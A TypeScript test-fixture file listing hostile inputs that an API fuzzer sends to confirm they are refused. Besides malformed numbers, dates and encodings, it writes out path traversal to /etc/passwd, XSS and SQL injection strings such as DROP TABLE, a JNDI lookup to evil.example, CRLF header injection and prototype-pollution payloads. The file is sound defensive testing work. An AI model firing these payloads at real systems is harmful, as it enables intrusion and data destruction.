/** Hostile values the generator draws from. Each list says when its values are bound to be refused. */

/** Number literals refused at every integer field of the API (all have `minimum >= 0` and `maximum <= 10^12`): negative, fractional, huge, or not JSON. */
export const HOSTILE_NUMBER_LITERALS = [
  '-1',
  '-1200',
  '-0.5',
  '0.5',
  '1200.5',
  '1200.000001',
  '1e-7',
  '1e20',
  '1E+20',
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551616',
  '1e400',
  '-1e400',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '+1',
  '.5',
  '1.',
  '01',
  '1_000',
  '١٢٣',
  'undefined',
] as const;

/** Number literals that are odd but valid JSON integers (`-0`, `1.0`): not a reason to refuse by themselves. */
export const ODD_VALID_NUMBER_LITERALS = ['-0', '1.0', '1e0', '0.0e0', '1E1'] as const;

/** Replacement values of another JSON type (the right one is filtered out per field). */
export const WRONG_TYPE_VALUES = ['1200', 1200, 12.5, -1, true, false, [], [1, 2], {}, { value: 1200 }, '', null] as const;

/** Keys no schema of the API knows: unknown fields must be refused (no mass assignment). */
export const UNKNOWN_KEYS = [
  'prototype',
  'isAdmin',
  'admin',
  'status',
  'storeId',
  'version',
  'role',
  'id',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '$where',
  'a.b',
  '',
  ' ',
  'amount ',
  'Amount',
  '\u0000',
  '😀',
] as const;

/** Keys the JSON parser refuses (prototype pollution), with the payloads an attacker would send. */
export const POLLUTING_ENTRIES: readonly (readonly [string, unknown])[] = [
  ['__proto__', { polluted: true }],
  ['__proto__', { isAdmin: true, status: 'captured' }],
  ['__proto__', null],
  ['constructor', { prototype: { polluted: true } }],
  ['constructor', { prototype: null }],
];

/** Strings whose characters no name, code or id of the API allows (sent percent-encoded in paths and queries). */
export const HOSTILE_TEXTS = [
  '../../../etc/passwd',
  '..\\..\\..\\boot.ini',
  '%2e%2e%2f%2e%2e%2f',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '"; DROP TABLE transactions; --',
  'a b',
  'é',
  '日本語',
  '\u0000',
  '%00',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  'C11\r\nX-Injected: 1',
  'C11;',
  'C11.json',
  '😀',
  '\u202egnp.exe',
  'a/b',
  '?x=1',
  '#frag',
  '\ud800',
] as const;

/** Path segments that are not valid percent-encoding (Fastify cannot decode them). */
export const MALFORMED_PERCENT = ['%zz', '%', '%f', '%ff', 'abc%', '%c0%af', '%ed%a0%80', '%e3%81', '%80', '%fe%ff'] as const;

/** Byte sequences that are not UTF-8: stray bytes, overlong, surrogates, truncated, beyond U+10FFFF. */
export const BROKEN_UTF8: readonly (readonly number[])[] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0x80],
  [0xe3, 0x81],
  [0xf4, 0x90, 0x80, 0x80],
  [0xc3, 0x28],
];

/** Content types the JSON routes must refuse (415, or 400 for a CSV where JSON is wanted). */
export const WRONG_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/jsonx',
  'application/json, text/plain',
  'text/html',
  'image/png',
  '*/*',
  'application/octet-stream',
  'x',
  ';',
] as const;

/** Idempotency keys outside the contract (1–255 visible ASCII characters). */
export const HOSTILE_IDEMPOTENCY_KEYS = [
  'k'.repeat(10 * 1024),
  'k'.repeat(256),
  '',
  'key with space',
  'clé',
  'tab\tkey',
  '\x7f',
  '"; DROP TABLE idempotency_keys; --',
].filter((key) => key.length > 255 || !/^[\x21-\x7e]+$/.test(key));

/** Dates the `date` format refuses. */
export const BAD_DATES = [
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  'today',
  '20261121',
  '2026-1-1',
  '2026-11-21T00:00:00Z',
  '+002026-11-21',
] as const;

/** Date-times the `date-time` format refuses. */
export const BAD_DATE_TIMES = [
  '2026-11-21',
  '2026-11-21T10:00:00',
  '2026-11-21T24:00:00Z',
  '2026-13-01T10:00:00Z',
  '2026-02-30T10:00:00Z',
  'tomorrow',
  '1795255200000',
  '2026-11-21T10:00Z',
] as const;

/** Junk for headers read as free text (visible Latin-1, as HTTP can carry it). */
export const HEADER_JUNK = [
  '',
  'x',
  'null',
  'undefined',
  '[object Object]',
  '../../etc/passwd',
  '%00',
  'é',
  '<script>',
  'x'.repeat(10 * 1024),
  '1, 2, 3',
  'a=b; c=d',
] as const;
